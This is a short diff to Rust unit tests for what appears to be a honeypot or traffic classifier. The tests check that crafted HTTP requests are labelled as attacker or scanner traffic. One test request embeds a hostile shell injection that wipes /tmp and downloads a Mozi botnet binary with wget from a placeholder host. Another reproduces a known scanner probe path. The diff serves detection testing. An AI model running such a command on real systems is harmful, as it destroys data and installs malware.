@@ -75,7 +75,7 @@ mod tests {
         let rules = RuleSet::builtin();
         let req = HttpRequest::new("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://x/mozi.m").to_bytes();
         assert_eq!(
-            classify_intent(&ConnectionIntent::Payload(req), 80, &rules),
+            classify_intent(&ConnectionIntent::Payload(req.into()), 80, &rules),
             Verdict::Attacker
         );
     }
@@ -85,7 +85,7 @@ mod tests {
         let rules = RuleSet::builtin();
         let req = HttpRequest::new("GET", "/").header("Host", "x").to_bytes();
         assert_eq!(
-            classify_intent(&ConnectionIntent::Payload(req), 80, &rules),
+            classify_intent(&ConnectionIntent::Payload(req.into()), 80, &rules),
             Verdict::Scanner
         );
     }
@@ -97,7 +97,7 @@ mod tests {
         let rules = RuleSet::builtin();
         let req = HttpRequest::new("GET", "/nice ports,/Trinity.txt.bak").to_bytes();
         assert_eq!(
-            classify_intent(&ConnectionIntent::Payload(req), 80, &rules),
+            classify_intent(&ConnectionIntent::Payload(req.into()), 80, &rules),
             Verdict::Scanner
         );
     }
